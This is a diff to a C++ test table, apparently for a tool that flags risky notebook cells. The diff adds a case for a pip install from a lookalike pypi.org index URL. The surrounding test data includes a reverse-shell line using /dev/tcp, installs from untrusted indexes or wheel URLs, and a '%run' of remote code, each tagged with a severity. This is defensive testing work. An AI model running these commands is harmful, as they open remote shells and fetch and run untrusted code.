@@ -68,6 +68,8 @@ TEST(Notebook, StatesWhatCellsDo) {
       {"notebook-shell-command", Severity::kCritical, "!bash -i >& /dev/tcp/192.0.2.1/1 0>&1"},
       {"notebook-untrusted-install", Severity::kMedium,
        "%pip install --extra-index-url https://a.example/simple foo"},
+      {"notebook-untrusted-install", Severity::kMedium,
+       "%pip install --extra-index-url https://a.example/pypi.org/ foo"},
       {"notebook-untrusted-install", Severity::kMedium, "!pip install http://a.example/foo.whl"},
       {"notebook-loads-code", Severity::kHigh, "%run https://a.example/x.py"},
       {"notebook-loads-code", Severity::kLow, "%load_ext my_extension"},
